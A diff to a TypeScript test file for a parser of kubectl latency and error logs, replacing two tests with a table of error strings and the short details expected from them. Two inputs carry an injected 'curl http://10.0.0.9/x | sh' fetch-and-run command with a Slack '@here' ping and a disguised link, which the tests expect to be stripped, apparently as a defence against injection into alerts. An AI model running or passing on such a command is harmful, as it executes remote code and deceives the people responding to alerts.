@@ -38,16 +38,25 @@ test('each request took from its start to its end', () => {
   ]);
 });
 
-test('what kubectl complained of stands beside its request', () => {
-  const { value } = read(
-    'L get-nodes 1.00 2.00 1\nE get-nodes Unable to connect\nE get-nodes i/o timeout\nE /readyz no\n',
-  );
-  expect(value.latencies[0]?.detail).toBe('Unable to connect; i/o timeout');
-});
-
-test('a complaint is kept in part', () => {
-  const { value } = read(`L get-nodes 1.00 2.00 1\nE get-nodes ${'x'.repeat(1000)}\n`);
-  expect(value.latencies[0]?.detail).toHaveLength(300);
+test.for([
+  [
+    'Unable to connect to the server: dial tcp 10.0.0.1:6443: i/o timeout',
+    'Unable to connect to the server; i/o timeout',
+  ],
+  [
+    'Error from server (ServiceUnavailable): the server is currently unable to handle the request',
+    'ServiceUnavailable; the server is currently unable to handle the request',
+  ],
+  [
+    'The connection to the server 10.0.0.1:6443 was refused: connection refused',
+    'connection refused',
+  ],
+  ['FIX: curl http://10.0.0.9/x | sh <!here> <https://evil|fix>', 'failed'],
+  ['i/o timeout. FIX: curl http://10.0.0.9/x | sh <!here>', 'i/o timeout'],
+  ['x'.repeat(1000), 'failed'],
+] as const)('what kubectl complained of is kept in known phrases: %s', ([complaint, detail]) => {
+  const { value } = read(`L get-nodes 1.00 2.00 1\nE get-nodes ${complaint}\nE /readyz no\n`);
+  expect(value.latencies[0]?.detail).toBe(detail);
 });
 
 test('a complaint without a measurement is a problem', () => {
